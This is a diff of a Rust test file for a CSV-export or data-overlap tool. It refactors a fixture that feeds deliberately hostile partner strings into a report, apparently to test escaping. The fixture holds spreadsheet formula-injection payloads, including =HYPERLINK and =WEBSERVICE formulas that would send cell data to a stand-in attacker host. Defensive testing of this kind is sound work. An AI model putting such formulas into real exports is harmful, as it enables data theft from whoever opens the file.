@@ -4,7 +4,7 @@
 
 use overlap::csv_out::Flavour;
 use overlap::ingest::{read, Dataset, NamePolicy, Options};
-use overlap::protocol::messages::SharedFields;
+use overlap::model::{FieldRows, PopulationRole, SharedValues};
 use overlap::protocol::MessageError;
 use overlap::report::{Population, Report};
 
@@ -32,20 +32,24 @@ fn my_export() -> Dataset {
 /// A partner whose every string is hostile; it matches my first three rows.
 fn hostile_report(d: &Dataset) -> Report {
     let partner_pops = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")", "  @SUM(A1)", "＋A1", "-2+3", "\u{200B}=1", "Prospects"];
-    let partner_pops: Vec<Population> = partner_pops.iter().map(|n| Population { name: n.to_string(), size: 10 }).collect();
-    let my_pops: Vec<Population> = d.populations().iter().map(|n| Population { name: n.clone(), size: 4 }).collect();
+    let partner_pops: Vec<Population> = partner_pops.iter().map(|n| Population { name: n.to_string(), size: 10, role: PopulationRole::Other }).collect();
+    let my_pops: Vec<Population> = d.populations().iter().map(|n| Population { name: n.clone(), size: 4, role: PopulationRole::Other }).collect();
     let matched = ["domain:debora.se", "domain:evilcorp.com", "domain:acme.com"];
     let key_matches: Vec<Option<u16>> =
         d.keys().iter().map(|k| matched.contains(&k.to_string().as_str()).then_some(0b11_1111)).collect();
     let mut r = Report::from_key_matches(d, my_pops, partner_pops, 40, &key_matches);
-    let shared = SharedFields {
+    let shared = SharedValues {
         names: vec!["=Owner".into(), "Phone".into()],
         entries: d
             .keys()
             .iter()
             .enumerate()
             .filter(|(_, k)| matched.contains(&k.to_string().as_str()))
-            .map(|(i, _)| (i as u32, vec![vec!["=WEBSERVICE(\"http://evil.example\")".to_string(), "+46 8 123 456 78".to_string()]]))
+            .map(|(i, _)| {
+                let mut rows = FieldRows::new(2);
+                rows.push(["=WEBSERVICE(\"http://evil.example\")", "+46 8 123 456 78"]);
+                (i as u32, rows)
+            })
             .collect(),
     };
     r.attach_partner_fields(d, &shared);
